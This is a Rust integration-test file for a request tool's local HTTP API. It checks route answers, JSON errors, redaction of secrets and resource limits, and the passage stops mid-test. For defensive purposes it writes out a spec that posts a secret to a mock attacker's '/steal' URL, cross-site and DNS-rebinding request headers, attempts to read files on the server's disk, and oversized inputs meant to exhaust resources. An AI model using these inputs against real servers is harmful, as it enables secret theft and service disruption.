//! `courier serve` over real HTTP on loopback: every route answers as docs/api.md
//! and /openapi.json say, every rejection is JSON with a 4xx, and a spec sent to
//! the API never reads the server's disk.
#![cfg(feature = "cli")]

use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

/// A `courier serve` child on a free loopback port, killed on drop.
struct Server {
    child: Child,
    base: String,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn start(extra: &[&str]) -> Server {
    start_with_allow(extra, Some("private"))
}

/// A server whose `COURIER_ALLOW` is `allow` (unset for `None`).
fn start_with_allow(extra: &[&str], allow: Option<&str>) -> Server {
    start_with_env(extra, allow, &[])
}

/// A server whose `COURIER_ALLOW` is `allow`, with the variables `env` set.
fn start_with_env(extra: &[&str], allow: Option<&str>, env: &[(&str, &str)]) -> Server {
    let mut command = Command::new(env!("CARGO_BIN_EXE_courier"));
    command.env_remove("COURIER_ALLOW");
    // Tests send to loopback servers, which the destination policy refuses by default.
    if let Some(allow) = allow {
        command.env("COURIER_ALLOW", allow);
    }
    command.envs(env.iter().copied());
    let mut child = command
        .args(["serve", "--listen", "127.0.0.1:0"])
        .args(extra)
        .stdout(Stdio::piped())
        .spawn()
        .expect("courier serve starts");
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).expect("the address line");
    let base = line.trim().rsplit(' ').next().unwrap().trim_end_matches('/').to_owned();
    assert!(base.starts_with("http://127.0.0.1:"), "{line}");
    Server { child, base }
}

async fn post(server: &Server, route: &str, body: impl Into<reqwest::Body>) -> (u16, Value) {
    let response = reqwest::Client::new()
        .post(format!("{}{route}", server.base))
        .header("content-type", "application/json")
        .body(body)
        .send()
        .await
        .expect("an answer");
    let status = response.status().as_u16();
    let text = response.text().await.unwrap();
    (status, serde_json::from_str(&text).unwrap_or_else(|_| panic!("{route} answered non-JSON: {text}")))
}

async fn post_json(server: &Server, route: &str, body: Value) -> (u16, Value) {
    post(server, route, body.to_string()).await
}

#[tokio::test]
async fn eval_gives_the_typed_value_and_its_text_or_diagnostics() {
    let server = start(&[]);
    let (status, answer) =
        post_json(&server, "/v1/eval", json!({ "expression": "toInteger(n) + 0.5", "variables": { "n": "41" } })).await;
    assert_eq!((status, answer), (200, json!({ "value": 41.5, "text": "41.5" })));
    let (status, answer) = post_json(&server, "/v1/eval", json!({ "expression": "toInterger(n)" })).await;
    assert_eq!(status, 422);
    let diagnostic = &answer["diagnostics"][0];
    assert_eq!((diagnostic["line"].clone(), diagnostic["column"].clone()), (json!(1), json!(1)));
    assert_eq!(diagnostic["suggestion"], json!("did you mean toInteger?"));
    let context = json!({ "now": "2026-01-02T03:04:05Z", "time_zone": "Europe/Berlin" });
    let (status, answer) =
        post_json(&server, "/v1/eval", json!({ "expression": "formatDate(now(), \"HH:mm\")", "context": context }))
            .await;
    assert_eq!((status, answer["text"].clone()), (200, json!("04:04")), "{answer}");
}

#[tokio::test]
async fn render_gives_the_output_and_for_json_the_value() {
    let server = start(&[]);
    let template = "{\n  \"email\": ${email},\n  \"consumption\": ${toInteger(consumption)}\n}";
    let variables = json!({ "email": "ada@example.org", "consumption": "42" });
    let (status, answer) =
        post_json(&server, "/v1/render", json!({ "template": template, "as": "json", "variables": variables })).await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["value"], json!({ "email": "ada@example.org", "consumption": 42 }));
    assert_eq!(answer["output"], json!("{\n  \"email\": \"ada@example.org\",\n  \"consumption\": 42\n}"));
    let (_, answer) = post_json(
        &server,
        "/v1/render",
        json!({ "template": "https://x.org/p/${id}", "as": "url", "variables": { "id": "a b" } }),
    )
    .await;
    assert_eq!(answer, json!({ "output": "https://x.org/p/a%20b" }));
    // Strict: an unset variable is an error naming it.
    let (status, answer) =
        post_json(&server, "/v1/render", json!({ "template": "Hi ${name}", "as": "text", "strict": true })).await;
    assert_eq!(status, 422);
    assert!(answer["diagnostics"][0]["message"].as_str().unwrap().contains("name"), "{answer}");
}

#[tokio::test]
async fn check_reports_template_and_spec_problems_as_check_does() {
    let server = start(&[]);
    let (status, answer) =
        post_json(&server, "/v1/check", json!({ "template": "{\n  \"a\": ${toInterger(x)}\n}", "as": "json" })).await;
    assert_eq!(status, 200);
    let found = &answer["diagnostics"][0];
    assert_eq!(
        [&found["line"], &found["column"], &found["end"]["line"], &found["end"]["column"]],
        [&json!(2), &json!(10), &json!(2), &json!(20)]
    );
    assert_eq!(found["code"], json!("unknown-function"));
    // The same diagnostics as `courier check --format json` on the same text.
    let folder = tempfile::tempdir().unwrap();
    let spec = "method = \"POTS\"\nurl = \"shop.example.org/${id}\"\ntimout = \"5s\"\n";
    std::fs::write(folder.path().join("spec.toml"), spec).unwrap();
    let printed = Command::new(env!("CARGO_BIN_EXE_courier"))
        .args(["check", "--format", "json", "spec.toml"])
        .current_dir(folder.path())
        .output()
        .unwrap();
    let mut from_cli: Value = serde_json::from_slice(&printed.stdout).unwrap();
    for diagnostic in from_cli.as_array_mut().unwrap() {
        diagnostic["file"] = Value::Null;
    }
    let (status, answer) = post_json(&server, "/v1/check", json!({ "spec": spec })).await;
    assert_eq!(status, 200);
    assert_eq!(answer["diagnostics"], from_cli);
    // The method, the scheme, the field; no empty-segment warning without variables.
    assert_eq!(answer["diagnostics"].as_array().unwrap().len(), 3, "{answer}");
}

#[tokio::test]
async fn dry_run_shows_the_request_with_secrets_redacted() {
    let mut server = start(&[]);
    let _ = server.child.kill();
    // The operator's secret, as the command line reads it.
    let mut child = Command::new(env!("CARGO_BIN_EXE_courier"))
        .args(["serve", "--listen", "127.0.0.1:0"])
        .env("COURIER_SECRET_SHOP_TOKEN", "s3cr3t-token")
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    server = Server { child, base: line.trim().rsplit(' ').next().unwrap().trim_end_matches('/').to_owned() };
    let spec = "method = \"POST\"\nurl = \"https://shop.example.org/products/${id}\"\nbody = \"json\"\n\
                payload = '{\"id\": ${toInteger(id)}}'\n[headers]\nX-Token = \"${secret(\\\"SHOP_TOKEN\\\")}\"\n";
    let (status, answer) = post_json(&server, "/v1/dry-run", json!({ "spec": spec, "variables": { "id": "7" } })).await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["method"], json!("POST"));
    assert_eq!(answer["url"], json!("https://shop.example.org/products/7"));
    assert_eq!(answer["body"], json!("{\"id\": 7}"));
    assert!(!answer.to_string().contains("s3cr3t"), "{answer}");
    // A spec with problems gives its diagnostics at their places.
    let (status, answer) =
        post_json(&server, "/v1/dry-run", json!({ "spec": "method = \"POTS\"\nurl = \"https://x.org\"\n" })).await;
    assert_eq!(status, 422);
    assert_eq!(answer["diagnostics"][0]["line"], json!(1));
    assert_eq!(answer["diagnostics"][0]["suggestion"], json!("write \"POST\""));
}

#[tokio::test]
async fn dry_run_shows_signing_polling_and_digest_with_their_secrets_redacted() {
    let signing = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";
    let password = "digest pass-word 7";
    let env = [("COURIER_SECRET_SIGNING", signing), ("COURIER_SECRET_DIGEST_PW", password)];
    let server = start_with_env(&[], Some("private"), &env);
    let spec = "method = \"POST\"\nurl = \"https://hooks.example.org/in\"\nbody = \"json\"\npayload = '{\"a\": 1}'\n\
                [sign]\nscheme = \"standard-webhooks\"\nsecret = '${secret(\"SIGNING\")}'\n\
                [poll]\ninterval = \"2s\"\nmax_polls = 5\n\
                [auth]\ntype = \"digest\"\nusername = \"bot\"\npassword = '${secret(\"DIGEST_PW\")}'\n";
    let (status, answer) = post_json(&server, "/v1/dry-run", json!({ "spec": spec })).await;
    assert_eq!(status, 200, "{answer}");
    let headers = &answer["headers"];
    assert_eq!(headers["webhook-id"], headers["idempotency-key"], "{answer}");
    assert!(headers["webhook-timestamp"].is_string(), "{answer}");
    assert_eq!(headers["webhook-signature"], json!("[redacted]"), "{answer}");
    let notes = answer["notes"].to_string();
    for expected in ["signed with Standard Webhooks", "at most 5 times", "Digest auth"] {
        assert!(notes.contains(expected), "{expected}: {answer}");
    }
    let shown = answer.to_string();
    for secret in [signing, "MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw", password] {
        assert!(!shown.contains(secret), "{secret}: {answer}");
    }
}

#[tokio::test]
async fn a_spec_sent_to_the_api_never_reads_the_servers_disk() {
    let secret = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(secret.path(), "{\"leaked\": \"from disk\"}").unwrap();
    let file = secret.path().display().to_string();
    let server = start(&[]);
    let toml = format!("method = \"POST\"\nurl = \"https://x.org\"\nbody = \"json\"\npayload_file = \"{file}\"\n");
    // Spelt with an escape, and inside a body table, in JSON: the spec's own parser finds it.
    let json_spec =
        json!({ "url": "https://x.org", "method": "POST", "body": { "type": "json", "payload_file": file } })
            .to_string()
            .replace("payload_file", "payload\\u005ffile");
    for spec in [toml.clone(), json_spec] {
        for route in ["/v1/dry-run", "/v1/check", "/v1/send"] {
            let (status, answer) = post_json(&server, route, json!({ "spec": spec })).await;
            assert!(status == 422 || (route == "/v1/send" && status == 403), "{route}: {status} {answer}");
            assert!(!answer.to_string().contains("leaked"), "{route}: {answer}");
        }
    }
    // A local file body is refused: its path is a template a chat's input could fill.
    let file_body = "method = \"POST\"\nurl = \"https://x.org\"\n[body]\ntype = \"octet-stream\"\nfile = \"${path}\"\n";
    let (status, answer) =
        post_json(&server, "/v1/dry-run", json!({ "spec": file_body, "variables": { "path": file } })).await;
    assert_eq!(status, 422, "{answer}");
    // Refused twice over: the path comes from a variable, and the server names no folder.
    assert!(answer["error"].as_str().unwrap().contains("a local file must be written literally"), "{answer}");
    assert!(!answer.to_string().contains("leaked"), "{answer}");
    // With a folder named by the operator, a relative payload file inside it is read...
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("payload.json"), "{\"n\": ${toInteger(n)}}").unwrap();
    let server = start(&["--files", folder.path().to_str().unwrap()]);
    let inside = "method = \"POST\"\nurl = \"https://x.org\"\nbody = \"json\"\npayload_file = \"payload.json\"\n";
    let (status, answer) =
        post_json(&server, "/v1/dry-run", json!({ "spec": inside, "variables": { "n": "3" } })).await;
    assert_eq!((status, answer["body"].clone()), (200, json!("{\"n\": 3}")), "{answer}");
    // ...and one outside it is not.
    let (status, answer) = post_json(&server, "/v1/dry-run", json!({ "spec": toml })).await;
    assert_eq!(status, 422);
    assert!(answer["error"].as_str().unwrap().contains("outside the server's folder"), "{answer}");
    let (status, _) =
        post_json(&server, "/v1/dry-run", json!({ "spec": file_body, "variables": { "path": file } })).await;
    assert_eq!(status, 422, "local file bodies stay refused with --files");
}

#[tokio::test]
async fn send_is_refused_unless_allowed_and_then_maps_a_listed_field() {
    let refusing = start(&[]);
    let spec = json!({ "spec": "url = \"https://shop.example.org\"" });
    let (status, answer) = post_json(&refusing, "/v1/send", spec).await;
    assert_eq!(status, 403);
    assert!(answer["error"].as_str().unwrap().contains("--allow-send"), "{answer}");

    let shop = MockServer::start().await;
    let body = "{\"product_id\": \"123\", \"price\": {\"amount\": 12.50, \"currency\": \"EUR\"}}";
    Mock::given(method("GET"))
        .and(path("/products/123"))
        .respond_with(ResponseTemplate::new(200).set_body_raw(body, "application/json"))
        .mount(&shop)
        .await;
    let server = start(&["--allow-send"]);
    // The path /v1/mappings lists is the one a mapping reads.
    let (status, listed) = post_json(&server, "/v1/mappings", json!({ "response": body })).await;
    assert_eq!(status, 200);
    let amount = listed["leaves"].as_array().unwrap().iter().find(|leaf| leaf["pointer"] == "/price/amount").unwrap();
    assert_eq!((amount["path"].clone(), amount["text"].clone()), (json!("price.amount"), json!("12.50")));
    let spec = format!(
        "url = \"{}/products/${{product_id}}\"\n[[mappings]]\nsource = \"price.amount\"\ntarget = \"product_price\"\n",
        shop.uri()
    );
    let (status, outcome) =
        post_json(&server, "/v1/send", json!({ "spec": spec, "variables": { "product_id": "123" } })).await;
    assert_eq!(status, 200, "{outcome}");
    assert_eq!(outcome["status"], json!(200));
    assert_eq!(outcome["variables"]["product_price"], json!("12.50"));

    // Under the destination policy: loopback is refused unless the operator allows it.
    let public_only = start_with_allow(&["--allow-send"], None);
    let (status, outcome) =
        post_json(&public_only, "/v1/send", json!({ "spec": spec, "variables": { "product_id": "123" } })).await;
    assert_eq!((status, outcome["status"].clone()), (200, Value::Null), "{outcome}");
    assert!(outcome["error"].as_str().unwrap().contains("127.0.0.1"), "{outcome}");
    let port = shop.address().port().to_string();
    let allowed = start_with_allow(&["--allow-send", "--allow", &format!("127.0.0.1:{port}")], None);
    let (_, outcome) =
        post_json(&allowed, "/v1/send", json!({ "spec": spec, "variables": { "product_id": "123" } })).await;
    assert_eq!(outcome["variables"]["product_price"], json!("12.50"), "{outcome}");
}

/// `/v1/send` shows a mapping that read a list of scalars as a JSON array, which a
/// later `/v1/send` takes back as variables and renders as an array in its payload.
#[tokio::test]
async fn send_shows_a_list_variable_as_an_array_that_a_later_send_reads_back() {
    let shop = MockServer::start().await;
    let products = json!({"products": [{"name": "Tea", "stock": 2}, {"name": "Mug", "stock": 0}]});
    Mock::given(method("GET")).respond_with(ResponseTemplate::new(200).set_body_json(products)).mount(&shop).await;
    Mock::given(method("POST")).respond_with(ResponseTemplate::new(200)).mount(&shop).await;
    let server = start(&["--allow-send"]);
    let read = json!({"url": format!("{}/products", shop.uri()), "mappings": [
        {"source": "$.products[?@.stock > 0].name", "target": "in_stock"},
        {"source": "$.products[*]", "target": "all"}
    ]});
    let (status, outcome) = post_json(&server, "/v1/send", json!({ "spec": read })).await;
    assert_eq!(status, 200, "{outcome}");
    assert_eq!(outcome["variables"]["in_stock"], json!(["Tea"]), "{outcome}");
    assert!(outcome["variables"]["all"].is_string(), "a list of objects stays JSON text: {outcome}");

    let payload = r#"{"buttons": ${in_stock.stream().map(name -> {'title': name}).toList()}, "first": ${in_stock[0]}}"#;
    let post = json!({"method": "POST", "url": format!("{}/messages", shop.uri()), "body": "json", "payload": payload});
    let (status, answer) =
        post_json(&server, "/v1/send", json!({ "spec": post, "variables": outcome["variables"].clone() })).await;
    assert_eq!((status, answer["status"].clone()), (200, json!(200)), "{answer}");
    let requests = shop.received_requests().await.unwrap();
    let sent: Value = serde_json::from_slice(&requests[1].body).unwrap();
    assert_eq!(sent, json!({"buttons": [{"title": "Tea"}], "first": "Tea"}));
}

#[tokio::test]
async fn mappings_list_every_leaf_with_a_path_the_mapping_accepts() {
    let server = start(&[]);
    let response = r#"{"items": [{"name": "a", "tags": []}], "odd.key": {"x": null}, "": 1}"#;
    let (status, answer) = post_json(&server, "/v1/mappings", json!({ "response": response })).await;
    assert_eq!(status, 200);
    let paths: Vec<(&str, &str)> = answer["leaves"]
        .as_array()
        .unwrap()
        .iter()
        .map(|leaf| (leaf["path"].as_str().unwrap(), leaf["pointer"].as_str().unwrap()))
        .collect();
    assert_eq!(
        paths,
        [
            ("items[0].name", "/items/0/name"),
            ("items[0].tags", "/items/0/tags"),
            ("/odd.key/x", "/odd.key/x"),
            ("/", "/"),
        ]
    );
    let (status, answer) = post_json(&server, "/v1/mappings", json!({ "response": "{\"a\": " })).await;
    assert_eq!(status, 422);
    assert!(answer["error"].as_str().unwrap().starts_with("response is not JSON"), "{answer}");
}

#[tokio::test]
async fn specs_and_responses_are_taken_as_json_documents_as_well_as_their_text() {
    let server = start(&[]);
    let spec = json!({ "method": "POST", "url": "https://shop.example.org/products/${id}", "body": "json",
                       "payload": "{\"id\": ${toInteger(id)}}" });
    let (status, answer) = post_json(&server, "/v1/dry-run", json!({ "spec": spec, "variables": { "id": "7" } })).await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!((&answer["method"], &answer["url"]), (&json!("POST"), &json!("https://shop.example.org/products/7")));
    assert_eq!(answer["body"], json!("{\"id\": 7}"));
    // A problem in an object is placed in its indented text: line 3 holds the second field.
    let (status, answer) =
        post_json(&server, "/v1/dry-run", json!({ "spec": { "url": "https://x.org", "method": "POTS" } })).await;
    assert_eq!(status, 422, "{answer}");
    assert_eq!(
        (&answer["diagnostics"][0]["line"], &answer["diagnostics"][0]["suggestion"]),
        (&json!(3), &json!("write \"POST\""))
    );
    let (status, answer) =
        post_json(&server, "/v1/check", json!({ "spec": { "url": "https://x.org", "timeot": "1s" } })).await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["diagnostics"][0]["suggestion"], json!("did you mean `timeout`?"), "{answer}");

    for text in [r#"{"price": {"amount": 12.50}}"#, r#"[{"price": {"amount": 12.50}}]"#] {
        let response: Value = serde_json::from_str(text).unwrap();
        let (status, answer) = post_json(&server, "/v1/mappings", json!({ "response": response })).await;
        assert_eq!(status, 200, "{answer}");
        let leaf = &answer["leaves"][0];
        assert!(leaf["path"].as_str().unwrap().ends_with("price.amount"), "{answer}");
        assert_eq!(leaf["text"], json!("12.50"), "the response's own spelling is kept");
    }
    // Anything else is refused, saying what is taken.
    let (status, answer) = post_json(&server, "/v1/dry-run", json!({ "spec": 5 })).await;
    assert!(
        status == 400
            && answer["error"].as_str().unwrap().contains("expected a JSON object, or its text, found a number"),
        "{answer}"
    );
    let (status, answer) = post_json(&server, "/v1/mappings", json!({ "response": true })).await;
    assert!(status == 400 && answer["error"].as_str().unwrap().contains("found a boolean"), "{answer}");
}

#[tokio::test]
async fn every_rejection_is_json_with_a_4xx() {
    let server = start(&[]);
    let (status, answer) = post(&server, "/v1/eval", "not json").await;
    assert_eq!(status, 400);
    assert!(answer["error"].as_str().unwrap().contains("not the JSON this route takes"), "{answer}");
    let (status, answer) = post_json(&server, "/v1/eval", json!({ "expression": 1 })).await;
    assert_eq!(status, 400, "{answer}");
    let (status, answer) = post_json(&server, "/v1/render", json!({ "template": "x", "as": "yaml" })).await;
    assert!(status == 400 && answer["error"].as_str().unwrap().contains("yaml"), "{answer}");
    let (status, _) = post_json(&server, "/v1/eval", json!({ "expression": "1", "extra": true })).await;
    assert_eq!(status, 400);
    let (status, answer) =
        post_json(&server, "/v1/eval", json!({ "expression": "x", "variables": { "x": { "deep": 1 } } })).await;
    assert!(status == 400 && answer["error"].as_str().unwrap().starts_with("variables:"), "{answer}");
    let (status, answer) =
        post_json(&server, "/v1/eval", json!({ "expression": "1", "context": { "clock": 1 } })).await;
    assert!(status == 400 && answer["error"].as_str().unwrap().starts_with("context:"), "{answer}");
    // Deeply nested: serde's recursion limit, not a stack overflow.
    let deep = format!("{{\"expression\": \"x\", \"variables\": {}{}}}", "[".repeat(100_000), "]".repeat(100_000));
    let (status, _) = post(&server, "/v1/eval", deep).await;
    assert_eq!(status, 400);
    // Over the body limit: 413, and the server still answers.
    let huge = format!("{{\"expression\": \"{}\"}}", "a".repeat(2 << 20));
    let (status, answer) = post(&server, "/v1/eval", huge).await;
    assert_eq!(status, 413, "{answer}");
    let (status, _) = post_json(&server, "/v1/eval", json!({ "expression": "1" })).await;
    assert_eq!(status, 200);
    // Unknown routes and methods.
    let client = reqwest::Client::new();
    for (request, expected) in [
        (client.get(format!("{}/v2/nothing", server.base)), 404),
        (client.delete(format!("{}/v1/eval", server.base)), 405),
        (client.get(format!("{}/v1/render", server.base)), 405),
    ] {
        let response = request.send().await.unwrap();
        assert_eq!(response.status().as_u16(), expected);
        let json: Value = response.json().await.expect("a JSON error");
        assert!(json["error"].is_string());
    }
}

#[tokio::test]
async fn a_hostile_template_is_refused_quickly() {
    let server = start(&[]);
    let started = Instant::now();
    for template in [
        format!("${{{}1{}}}", "(".repeat(50_000), ")".repeat(50_000)),
        format!("${{{}}}", "-".repeat(500_000)),
        "${x}".repeat(20_000),
    ] {
        let (status, answer) = post_json(&server, "/v1/render", json!({ "template": template, "as": "text" })).await;
        assert!(status == 422 || status == 200, "{status} {answer}");
        let (status, _) = post_json(&server, "/v1/check", json!({ "template": template })).await;
        assert_eq!(status, 200);
    }
    assert!(started.elapsed() < Duration::from_secs(30), "took {:?}", started.elapsed());
}

#[tokio::test]
async fn openapi_describes_every_route_the_server_answers() {
    let server = start(&[]);
    let client = reqwest::Client::new();
    let document: Value =
        client.get(format!("{}/openapi.json", server.base)).send().await.unwrap().json().await.unwrap();
    assert_eq!(document["openapi"], json!("3.1.0"));
    let paths = document["paths"].as_object().unwrap();
    for route in [
        "/v1/eval",
        "/v1/render",
        "/v1/check",
        "/v1/dry-run",
        "/v1/send",
        "/v1/mappings",
        "/v1/functions",
        "/openapi.json",
    ] {
        assert!(paths.contains_key(route), "{route} is not documented");
    }
    for (route, operations) in paths {
        for method in operations.as_object().unwrap().keys() {
            let request = client.request(method.to_uppercase().parse().unwrap(), format!("{}{route}", server.base));
            let status = request.body("{}").send().await.unwrap().status().as_u16();
            assert!(status != 404 && status != 405, "{method} {route} is documented but answers {status}");
        }
    }
    let functions: Value =
        client.get(format!("{}/v1/functions", server.base)).send().await.unwrap().json().await.unwrap();
    assert!(functions.as_array().unwrap().iter().any(|function| function["name"] == "toInteger"));
    let page = client.get(&server.base).send().await.unwrap();
    assert!(page.headers()["content-type"].to_str().unwrap().starts_with("text/html"));
    assert!(page.text().await.unwrap().contains("courier playground"));
}

#[tokio::test]
async fn answers_are_bounded_however_large_the_input() {
    let server = start(&[]);
    // 20 000 leaves: the first 10 000 are listed, and `truncated` says the rest were cut.
    let response = format!("[{}]", vec!["0"; 20_000].join(","));
    let (status, answer) = post_json(&server, "/v1/mappings", json!({ "response": response })).await;
    assert_eq!(status, 200);
    assert_eq!(answer["leaves"].as_array().unwrap().len(), 10_000);
    assert_eq!(answer["truncated"], json!(true));
    assert_eq!(answer["leaves"][9_999]["path"], json!("[9999]"));
    // 3 000 problems: at most 1 000 diagnostics in one answer.
    let template = "${toInterger(x)} ".repeat(3_000);
    let (status, answer) = post_json(&server, "/v1/check", json!({ "template": template })).await;
    assert_eq!(status, 200);
    let count = answer["diagnostics"].as_array().unwrap().len();
    assert!((1..=1_000).contains(&count), "{count} diagnostics");
}

/// Sends `body` to `route` with exactly the headers given (reqwest adds none it is given).
async fn post_raw(server: &Server, route: &str, headers: &[(&str, &str)], body: &str) -> (u16, String) {
    let mut request = reqwest::Client::new().post(format!("{}{route}", server.base)).body(body.to_owned());
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let response = request.send().await.expect("an answer");
    (response.status().as_u16(), response.text().await.unwrap())
}

#[tokio::test]
async fn a_cross_site_page_cannot_make_the_server_send_or_read_its_answers() {
    let attacker = MockServer::start().await;
    Mock::given(method("POST")).respond_with(ResponseTemplate::new(200)).mount(&attacker).await;
    let server = start_with_env(&["--allow-send"], Some("private"), &[("COURIER_SECRET_K", "s3cr3t-value")]);
    let port = server.base.rsplit(':').next().unwrap().to_owned();
    let spec = format!(
        "method = \"POST\"\nurl = \"{}/steal\"\nbody = \"json\"\npayload = '{{\"k\": ${{secret(\"K\")}}}}'\n",
        attacker.uri()
    );
    let body = json!({ "spec": spec }).to_string();
    let own_host = format!("127.0.0.1:{port}");
    let rebound = format!("attacker.example:{port}");
    // What a browser sends: a "simple" POST from a foreign page (text/plain, no
    // preflight), a JSON one from a foreign page, and any request of a page whose
    // name was rebound to 127.0.0.1.
    let cases: [(&[(&str, &str)], u16); 5] = [
        (&[("content-type", "text/plain;charset=UTF-8"), ("origin", "http://attacker.example")], 403),
        (&[("content-type", "application/json"), ("origin", "http://attacker.example")], 403),
        (&[("content-type", "application/json"), ("origin", "null")], 403),
        (&[("content-type", "text/plain"), ("host", &rebound), ("origin", "http://attacker.example")], 403),
        (&[("content-type", "text/plain")], 415),
    ];
    for (headers, refused) in cases {
        for route in ["/v1/send", "/v1/dry-run", "/v1/eval"] {
            let (status, answer) = post_raw(&server, route, headers, &body).await;
            assert_eq!(status, refused, "{route} {headers:?}: {answer}");
            assert!(!answer.contains("s3cr3t"), "{answer}");
        }
    }
    let (status, answer) =
        post_raw(&server, "/v1/dry-run", &[("host", &rebound), ("content-type", "application/json")], &body).await;
    assert_eq!(status, 403, "a rebound name reads nothing: {answer}");
    let page = reqwest::Client::new().get(format!("{}/", server.base)).header("host", &rebound).send().await.unwrap();
    assert_eq!(page.status().as_u16(), 403);
    assert!(attacker.received_requests().await.unwrap().is_empty(), "a refused request sent nothing");
    // The page's own requests and clients without an Origin keep working.
    let own_origin = format!("http://{own_host}");
    let json_type = ("content-type", "application/json");
    let (status, answer) =
        post_raw(&server, "/v1/eval", &[json_type, ("origin", &own_origin)], r#"{"expression": "1 + 1"}"#).await;
    assert_eq!((status, answer.as_str()), (200, r#"{"value":2,"text":"2"}"#));
    let (status, answer) =
        post_raw(&server, "/v1/eval", &[json_type, ("host", &format!("localhost:{port}"))], r#"{"expression": "1"}"#)
            .await;
    assert_eq!(status, 200, "{answer}");
    let (status, answer) = post_raw(&server, "/v1/send", &[json_type], &body).await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(attacker.received_requests().await.unwrap().len(), 1);
}

#[tokio::test]
async fn a_name_given_with_host_is_answered() {
    let server = start(&["--host", "workbench.internal"]);
    let port = server.base.rsplit(':').next().unwrap().to_owned();
    let json_type = ("content-type", "application/json");
    for host in [format!("workbench.internal:{port}"), "workbench.internal".to_owned()] {
        let (status, answer) =
            post_raw(&server, "/v1/eval", &[json_type, ("host", &host)], r#"{"expression": "1"}"#).await;
        assert_eq!(status, 200, "{host}: {answer}");
    }
    let (status, _) = post_raw(
        &server,
        "/v1/eval",
        &[json_type, ("host", &format!("other.internal:{port}"))],
        r#"{"expression": "1"}"#,
    )
    .await;
    assert_eq!(status, 403);
}

#[test]
fn sending_from_a_public_address_needs_public_and_files_must_be_a_folder() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("file.txt");
    std::fs::write(&file, "x").unwrap();
    let missing = folder.path().join("missing");
    for args in [
        vec!["--listen", "0.0.0.0:0", "--allow-send"],
        vec!["--listen", "127.0.0.1:0", "--files", file.to_str().unwrap()],
        vec!["--listen", "127.0.0.1:0", "--files", missing.to_str().unwrap()],
    ] {
        let output = Command::new(env!("CARGO_BIN_EXE_courier")).arg("serve").args(&args).output().unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains("--public") || stderr.contains("not an existing folder"), "{args:?}: {stderr}");
    }
    // With --public it starts (and says where it listens).
    let mut child = Command::new(env!("CARGO_BIN_EXE_courier"))
        .args(["serve", "--listen", "0.0.0.0:0", "--allow-send", "--public"])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let _ = child.kill();
    let _ = child.wait();
    assert!(line.contains("listening on http://0.0.0.0:"), "{line}");
}

#[tokio::test]
async fn mappings_of_long_paths_are_cut_by_answer_size() {
    let server = start(&[]);
    // 100 levels of 8,000-byte keys over 10,000 leaves: every leaf repeats a path
    // of 800 KB (twice, as a path and a pointer), which asked for gigabytes.
    let key = "k".repeat(8_000);
    let mut response = String::new();
    for _ in 0..100 {
        response.push_str(&format!("{{\"{key}\": "));
    }
    response.push_str(&format!("[{}]", vec!["0"; 10_000].join(",")));
    response.push_str(&"}".repeat(100));
    let started = Instant::now();
    let (status, answer) = post_json(&server, "/v1/mappings", json!({ "response": response })).await;
    assert!(started.elapsed() < Duration::from_secs(10), "took {:?}", started.elapsed());
    assert_eq!(status, 200);
    assert_eq!(answer["truncated"], json!(true));
    let size = answer.to_string().len();
    assert!(size < 2 * courier::serve::MAX_LEAVES_BYTES, "the answer is {size} bytes");
    assert!(answer["leaves"].as_array().unwrap().len() > 1);
}

/// The most memory the process `pid` has held (its peak resident set), in bytes.
fn peak_resident(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("Linux's /proc");
    let line = status.lines().find(|line| line.starts_with("VmHWM:")).expect("VmHWM");
    line.split_whitespace().nth(1).unwrap().parse::<u64>().unwrap() * 1024
}

/// One request over a fresh connection, its whole answer read: (status line, time taken).
fn timed_request(address: &str, request: &str) -> (String, Duration) {
    use std::io::{Read, Write};
    let started = Instant::now();
    let mut stream = std::net::TcpStream::connect(address).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    stream.write_all(request.as_bytes()).unwrap();
    let mut answer = String::new();
    let _ = stream.read_to_string(&mut answer);
    (answer.lines().next().unwrap_or_default().to_owned(), started.elapsed())
}

fn raw_post(address: &str, route: &str, body: &str) -> String {
    format!(
        "POST {route} HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\nConnection: close\r\n\
         Content-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

#[test]
fn slow_readers_of_large_answers_are_bounded_and_eval_keeps_answering() {
    use std::io::Write;
    let server = start(&[]);
    let address = server.base.trim_start_matches("http://").to_owned();
    let render = json!({ "template": "${padZeroes(\"1\", 16000000)}", "as": "text" }).to_string();
    let render = raw_post(&address, "/v1/render", &render);
    let eval = raw_post(&address, "/v1/eval", &json!({ "expression": "1 + 1" }).to_string());
    // 50 connections ask for a 16 MB answer each and never read it (2.44 GB before).
    let mut held = Vec::new();
    for _ in 0..50 {
        let mut stream = std::net::TcpStream::connect(&address).unwrap();
        stream.write_all(render.as_bytes()).unwrap();
        held.push(stream);
    }
    // Once each has its answer's first line (200, or 503 when the answers being
    // written already hold their budget), they stop reading.
    let mut statuses = std::collections::BTreeMap::new();
    for stream in &held {
        stream.set_read_timeout(Some(Duration::from_secs(120))).unwrap();
        let mut line = String::new();
        BufReader::new(stream).read_line(&mut line).unwrap();
